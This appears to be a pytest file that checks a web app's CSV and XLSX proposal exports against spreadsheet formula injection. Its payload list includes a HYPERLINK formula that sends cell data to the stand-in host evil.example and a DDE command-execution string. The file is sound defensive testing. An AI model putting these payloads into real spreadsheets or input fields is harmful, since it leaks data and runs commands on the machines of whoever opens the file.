"""Formula injection in the proposal exports: an applicant named ``=HYPERLINK(…)`` became a live
formula in the coordinator's spreadsheet. CSV cells that start with = + - @ tab or CR get a
leading quote (OWASP); XLSX cells keep the exact text but are stored as text, never formulas."""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from models import Application, Authority, Sector
from tests.webapp.groupings.test_coordinator import SECTOR, coordinator, generate  # noqa: F401

PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def poisoned(db) -> dict[int, str]:
    """Authorities of the sector renamed with formula payloads: {authority id: payload}."""
    sector = db.exec(select(Sector).where(Sector.slug == SECTOR)).one()
    applications = db.exec(select(Application).where(Application.sector_id == sector.id)
                           .order_by(Application.id)).all()
    names = {}
    for application, payload in zip(applications, PAYLOADS, strict=False):
        authority = db.get(Authority, application.authority_id)
        authority.name = payload
        db.add(authority)
        names[authority.id] = payload
    db.commit()
    return names


def test_csv_cells_never_start_a_formula(coordinator, poisoned):  # noqa: F811
    proposal_id = generate(coordinator, n_alternatives="1")
    text = coordinator.get(f"/sectors/{SECTOR}/proposals/{proposal_id}/export.csv").get_data(
        as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    names = {row[2] for row in rows[1:]}
    assert {"'" + payload for payload in PAYLOADS} <= names
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_xlsx_stores_the_payloads_as_text(coordinator, poisoned):  # noqa: F811
    proposal_id = generate(coordinator, n_alternatives="1")
    response = coordinator.get(f"/sectors/{SECTOR}/proposals/{proposal_id}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["Groups"]
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row
             if isinstance(cell.value, str)}
    for payload in PAYLOADS:
        # the exact name, readable as typed (XML turns a bare CR into LF)…
        cell = cells.get(payload) or cells[payload.replace("\r", "\n")]
        assert cell.data_type == "s", payload  # …but text, not a formula ('f')
        assert cell.quotePrefix, payload
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
